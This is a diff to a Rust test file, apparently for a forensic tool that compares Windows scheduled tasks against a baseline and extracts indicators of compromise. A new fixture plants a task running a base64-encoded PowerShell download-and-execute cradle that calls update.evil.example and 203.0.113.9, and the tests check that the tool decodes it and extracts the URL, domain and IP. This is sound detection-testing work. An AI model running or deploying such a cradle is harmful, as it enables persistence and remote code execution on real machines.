@@ -7,9 +7,12 @@ mod common;
 use common::*;
 use std::path::{Path, PathBuf};
 
+/// A task XML running `command`; after a space, the rest is its `Arguments` (Task
+/// Scheduler keeps the program and its arguments apart).
 fn task(command: &str) -> String {
+    let (program, args) = command.split_once(' ').unwrap_or((command, ""));
     format!(
-        "<?xml version=\"1.0\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><BootTrigger/></Triggers><Actions><Exec><Command>{command}</Command></Exec></Actions></Task>"
+        "<?xml version=\"1.0\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><BootTrigger/></Triggers><Actions><Exec><Command>{program}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
     )
 }
 
@@ -192,7 +195,13 @@ fn diff_against_a_baseline_and_hunt_indicators() {
             ],
         ),
         mk("changed", &[("Backup", "C:\\Windows\\Temp\\backup.exe")]),
-        mk("removed", &[("Other", "C:\\Windows\\System32\\other.exe")]),
+        mk(
+            "removed",
+            &[(
+                "Other",
+                &format!("powershell.exe -NoP -enc {}", encoded("iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b)")),
+            )],
+        ),
     ) else {
         return;
     };
@@ -252,4 +261,35 @@ fn diff_against_a_baseline_and_hunt_indicators() {
         ]
     );
     assert!(!hits.iter().any(|h| h.ioc.contains("nothing")));
+    // The indicators of what the items run: the planted program's path on its host, the
+    // decoded PowerShell payload and the URLs, domain and address inside it.
+    let found = foothold_case::iocs(&target).unwrap();
+    let has = |kind: &str, value: &str, host: &str| {
+        found
+            .iter()
+            .any(|r| r.kind == kind && r.value == value && r.hosts == [host])
+    };
+    assert!(
+        has("path", "C:\\Users\\eve\\AppData\\Roaming\\upd.exe", "added"),
+        "{found:?}"
+    );
+    assert!(has("payload", "iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b)", "removed"), "{found:?}");
+    assert!(
+        has("url", "http://update.evil.example/a.ps1", "removed"),
+        "{found:?}"
+    );
+    assert!(has("domain", "update.evil.example", "removed"), "{found:?}");
+    assert!(has("ip", "203.0.113.9", "removed"), "{found:?}");
+}
+
+/// A PowerShell `-EncodedCommand` of `script`, as `iconv` and `base64` (coreutils) make it.
+fn encoded(script: &str) -> String {
+    let Some(out) = tool_stdin(
+        "sh",
+        &["-c", "iconv -f UTF-8 -t UTF-16LE | base64 -w0"],
+        script,
+    ) else {
+        panic!("iconv/base64 not available");
+    };
+    out.trim().to_string()
 }
